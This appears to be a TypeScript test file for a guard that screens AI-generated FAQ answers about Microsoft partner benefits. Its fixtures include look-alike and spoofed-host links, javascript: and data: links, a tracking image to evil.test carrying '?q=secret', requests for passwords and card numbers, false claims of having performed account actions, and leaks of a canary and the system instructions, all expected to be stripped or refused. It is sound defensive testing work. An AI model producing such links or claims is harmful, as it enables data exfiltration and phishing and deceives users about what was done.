import assert from 'node:assert/strict';
import { guardAnswer, maxAnswerChars, type GuardContext, type GuardRejection } from '../../src/services/answerGuard';
import { promptInstructions } from '../../src/services/generative';
import type { KnowledgeEntry, Language } from '../../src/knowledge/schema';
import { realEngine } from '../support/fixtures';

/**
 * The checks on a generated answer, rule by rule, in English and French: what must pass (with the text it
 * then shows) and what must be refused. The sources are real knowledge-base entries; one case adds a
 * source that quotes a partner in the first person.
 */

type Expect = { readonly shows: string | RegExp } | { readonly refused: GuardRejection };
interface Case {
  readonly name: string;
  readonly lang: Language;
  readonly text: string;
  readonly expect: Expect;
  readonly allowedDomains?: readonly string[];
}

const canary = 'pba-0f8fad5b-d9cb-469f-a165-70867728950e';
const ok = (shows: string | RegExp = /./): Expect => ({ shows });
const refused = (reason: GuardRejection): Expect => ({ refused: reason });
/** Passes unchanged. */
const same = (name: string, lang: Language, text: string): Case => ({ name, lang, text, expect: ok(text) });

const links: Case[] = [
  same(
    'a markdown link to the source page',
    'en',
    'See [the FAQ](https://learn.microsoft.com/partner-center/mpn-benefits-faq) [1].',
  ),
  same(
    'another page on the source host',
    'en',
    'Read https://learn.microsoft.com/partner-center/renew-mpn-offers [1].',
  ),
  same(
    'a URL the source itself gives (another host)',
    'fr',
    'Voir [Offres](https://partner.microsoft.com/dashboard/mpn/offers) [1].',
  ),
  {
    name: 'a look-alike host with the source host as prefix',
    lang: 'en',
    text: 'See [the FAQ](https://learn.microsoft.com.evil.test/renew) [1].',
    expect: ok('See the FAQ [1].'),
  },
  {
    name: 'the source host as user info before another host',
    lang: 'en',
    text: 'Go to https://learn.microsoft.com@evil.test/login to renew [1].',
    expect: refused('outside-action'),
  },
  {
    name: 'a bare URL to another site, sentence end kept',
    lang: 'en',
    text: 'Renew within 30 days at https://renew-mpn.example/now. [1]',
    expect: ok('Renew within 30 days at. [1]'),
  },
  {
    name: 'another page of the host a source URL names, not itself in the sources',
    lang: 'fr',
    text: 'Voir https://partner.microsoft.com/dashboard/autre-chose [1].',
    expect: ok('Voir [1].'),
  },
  {
    name: 'www. and bare domains',
    lang: 'en',
    text: 'Use www.evil.test/renew or aka.ms/free-benefits for 30 days [1].',
    expect: ok('Use or for 30 days [1].'),
  },
  {
    name: 'http (not https) to the source host',
    lang: 'en',
    text: '[FAQ](http://learn.microsoft.com/partner-center/mpn-benefits-faq) [1]',
    expect: ok('FAQ [1]'),
  },
  {
    name: 'javascript: and data: links',
    lang: 'en',
    text: '[Renew](javascript:alert(1)) or [here](data:text/html;base64,PHNjcmlwdD4=) [1]',
    expect: ok('Renew or here [1]'),
  },
  {
    name: 'links hidden in HTML, even to the source host',
    lang: 'fr',
    text: 'Voir <a href="https://learn.microsoft.com/x">la FAQ</a> <img src="https://evil.test/p.png"> [1]',
    expect: ok('Voir la FAQ [1]'),
  },
  {
    name: 'an image whose URL would carry data away',
    lang: 'en',
    text: 'Renew in 30 days [1] ![pixel](https://evil.test/p.png?q=secret)',
    expect: ok('Renew in 30 days [1] pixel'),
  },
  {
    name: 'a configured allowed domain and its subdomains',
    lang: 'en',
    text: 'Ask [us](https://help.contoso.com/mpn) [1].',
    allowedDomains: ['contoso.com'],
    expect: ok('Ask [us](https://help.contoso.com/mpn) [1].'),
  },
  {
    name: 'a domain ending like an allowed one',
    lang: 'en',
    text: 'Ask [us](https://evilcontoso.com/mpn) [1].',
    allowedDomains: ['contoso.com'],
    expect: ok('Ask us [1].'),
  },
];

/** Cases refused for one reason, each named by its key. */
const refusedAll = (reason: GuardRejection, lang: Language, cases: Record<string, string>): Case[] =>
  Object.entries(cases).map(([name, text]) => ({ name, lang, text, expect: refused(reason) }));

const claims: Case[] = [
  same('explaining what the user does', 'en', 'Select **Assign user** to give it to a colleague [1].'),
  same('expliquer ce que fait l’utilisateur', 'fr', 'Cliquez sur **Affecter un utilisateur** [1].'),
  same('"I" in an unrelated phrase', 'en', 'Once the window opens, you can renew on any of the 30 days [1].'),
  ...refusedAll('action-claim', 'en', {
    'I have activated': 'I have activated your technical benefit [1].',
    "I've assigned": "I've assigned the Visual Studio subscription to Adele [1].",
    'I renewed': 'I renewed your membership [1].',
    'curly apostrophe': 'I’ve just sent the codes [1].',
    'emphasis splitting the phrase': 'I **have** activated it [1].',
    'HTML splitting the phrase': 'I <b>have</b> activated it [1].',
    'a zero-width space inside': 'I have acti\u200bvated it [1].',
    'a promise': "I'll renew it for you now [1].",
    'Done, your subscription is…': 'Done, your subscription is assigned [1].',
    'on your behalf': 'The benefit was activated on your behalf [1].',
  }),
  ...refusedAll('action-claim', 'fr', {
    "j'ai activé": "J'ai activé votre avantage technique [1].",
    'j’ai attribué (apostrophe typographique)': 'J’ai attribué l’abonnement [1].',
    'jai assigne (sans accents)': 'jai assigne la licence a Adele [1]',
    "je vous l'ai envoyé": "Je vous l'ai envoyé par courriel [1].",
    'je viens de renouveler': "Je viens de renouveler l'adhésion [1].",
    "c'est fait": "C'est fait : votre abonnement est actif [1].",
    'c est fait (sans apostrophe)': 'c est fait, renouvele [1]',
    'je vais attribuer': "Je vais vous l'attribuer tout de suite [1].",
    'a bien été activé': "L'avantage a bien été activé [1].",
    'ÉCRIT EN CAPITALES': "J'AI RENOUVELÉ VOTRE ADHÉSION [1].",
  }),
];

const outside: Case[] = [
  same(
    'contacting Microsoft Support, as the source says',
    'fr',
    'Si l’échec persiste, contactez le Support Microsoft [1].',
  ),
  ...refusedAll('outside-action', 'en', {
    'an e-mail address': 'Write to renewals@contoso-help.test to renew [1].',
    'a phone number': 'Call +1 (425) 555-0100 to renew [1].',
    'a password request': 'To renew, give your Partner Center password [1].',
    'card details': 'Renewal needs your credit card number [1].',
    'reply with': 'Reply with your tenant name and I can check [1].',
    'send me': 'Send me the access ID [1].',
  }),
  ...refusedAll('outside-action', 'fr', {
    'une adresse e-mail': 'Écrivez à support@partenaires.example [1].',
    'un numéro de téléphone': 'Appelez le 01 23 45 67 89 [1].',
    'mot de passe': 'Indiquez votre mot de passe pour renouveler [1].',
    'code de vérification': 'Donnez le code de vérification reçu [1].',
    'envoyez-moi': "Envoyez-moi l'ID d'accès [1].",
    'répondez avec': 'Répondez avec votre ID MPN [1].',
  }),
];

const numbers: Case[] = [
  same(
    '30 days and the dates the source gives',
    'en',
    'For 30 days: bought September 1, 2020, renew from September 2, 2021 [1].',
  ),
  same('30 jours', 'fr', 'Pendant 30 jours, au jour de votre choix [1].'),
  same('citation markers are not numbers', 'en', 'For 30 days [1][2].'),
  ...refusedAll('unsourced-number', 'en', {
    'a count no source states': 'You have 45 days to renew [1].',
    'an amount': 'Renewal costs $475 [1].',
    'a year no source states': 'Since 2024 the window lasts 30 days [1].',
  }),
  ...refusedAll('unsourced-number', 'fr', { 'un montant': 'Le renouvellement coûte 1 200 € [1].' }),
];

const leaks: Case[] = [
  {
    name: 'the canary',
    lang: 'en',
    text: `My marker is ${canary} [1].`,
    expect: refused('canary'),
  },
  {
    name: 'part of the canary, reformatted',
    lang: 'fr',
    text: 'Marqueur : D9CB 469F A165 [1].',
    expect: refused('canary'),
  },
  {
    name: 'a run of the instructions',
    lang: 'en',
    text: 'My rules: do not add facts, numbers, links or advice that the sources do not state [1].',
    expect: refused('prompt-echo'),
  },
  {
    name: 'the instructions without the canary line',
    lang: 'fr',
    text: promptInstructions('fr', 'x').slice(0, 3).join(' '),
    expect: refused('prompt-echo'),
  },
  same('seven words of the instructions', 'en', 'Cite the source it comes from as [1].'),
  same(
    'a long quote of the source (an answer may echo it)',
    'en',
    'From the day after your purchase anniversary, for 30 days; you can renew on any of them [1].',
  ),
];

describe('answerGuard: what a generated answer may show', () => {
  let renewal: KnowledgeEntry;
  let quoting: KnowledgeEntry;

  before(async () => {
    const engine = await realEngine();
    const entry = engine.index.get('renewal-window');
    const technical = engine.index.get('tech-benefits-activate');
    assert.ok(entry && technical);
    renewal = entry;
    // An FAQ that quotes a partner's own words, "j'ai acheté…", as the knowledge base's alternates do.
    quoting = {
      ...technical,
      fr: { ...technical.fr, answer: `« J'ai acheté la mauvaise offre » : ${technical.fr.answer}` },
      en: { ...technical.en, answer: `"I have bought the wrong offer": ${technical.en.answer}` },
    };
  });

  const context = (lang: Language, allowedDomains: readonly string[] = []): GuardContext => ({
    language: lang,
    sources: [renewal, quoting],
    instructions: promptInstructions(lang, canary),
    canary,
    allowedDomains,
  });

  for (const [group, cases] of Object.entries({ links, claims, outside, numbers, leaks })) {
    describe(group, () => {
      for (const c of cases) {
        const verdict = 'refused' in c.expect ? `refused (${c.expect.refused})` : 'shown';
        it(`${c.lang}: ${c.name} → ${verdict}`, () => {
          const result = guardAnswer(c.text, context(c.lang, c.allowedDomains));
          if ('refused' in c.expect) {
            assert.ok(!result.ok, `shown: ${result.ok ? result.value.text : ''}`);
            assert.equal(result.error.reason, c.expect.refused);
            return;
          }
          assert.ok(result.ok, `refused: ${result.ok ? '' : `${result.error.reason} (${result.error.rule})`}`);
          if (typeof c.expect.shows === 'string') assert.equal(result.value.text, c.expect.shows);
          else assert.match(result.value.text, c.expect.shows);
        });
      }
    });
  }

  it('fr/en: a first-person phrase the source itself quotes is the source speaking, not a claim', () => {
    for (const [lang, text] of [
      ['fr', "« J'ai acheté la mauvaise offre » : voyez l'entrée [2]."],
      ['en', '"I have bought the wrong offer": see [2].'],
    ] as const) {
      const result = guardAnswer(text, context(lang));
      assert.ok(result.ok, `${lang}: ${result.ok ? '' : result.error.rule}`);
    }
    // The same words about something the source does not say are still a claim.
    assert.equal(guardAnswer("J'ai acheté votre renouvellement [1].", context('fr')).ok, false);
  });

  it('never quotes the reply in its verdict (the reason and rule are fixed names)', () => {
    const result = guardAnswer(`I have activated it, marker ${canary}, mail a@b.test`, context('en'));
    assert.ok(!result.ok);
    assert.ok(!JSON.stringify(result.error).includes('activated') && !JSON.stringify(result.error).includes('a@b'));
  });

  it('judges the longest reply it accepts, built to make patterns backtrack, in under 50 ms', () => {
    const parts = ['[x](', '<a ', '[', '![', '<a>', '<script>', 'a@', '1 ', 'www.', 'i have '];
    const hostile = parts.map((p) => p.repeat(Math.floor(maxAnswerChars / parts.length / p.length))).join('');
    assert.ok(hostile.length <= maxAnswerChars);
    const started = performance.now();
    for (let i = 0; i < 5; i += 1) guardAnswer(hostile, context('en'));
    const ms = (performance.now() - started) / 5;
    assert.ok(ms < 50, `${ms.toFixed(1)} ms`);
  });

  it('refuses a reply longer than 300 tokens could be, without scanning it', () => {
    const result = guardAnswer(`For 30 days [1]. ${'x'.repeat(maxAnswerChars)}`, context('en'));
    assert.ok(!result.ok && result.error.reason === 'too-long');
  });
});
